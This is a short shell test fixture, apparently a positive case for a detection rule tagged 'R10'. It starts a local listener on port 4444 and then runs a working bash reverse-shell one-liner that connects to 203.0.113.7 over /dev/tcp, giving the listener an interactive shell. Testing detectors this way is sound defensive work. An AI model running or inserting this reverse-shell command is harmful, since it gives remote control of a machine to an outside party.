# R10 positive: the classic bash reverse shell to a listener that sends two commands
catcher 4444 'id\nexit\n'
bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' 2>/dev/null
catcher_wait
true
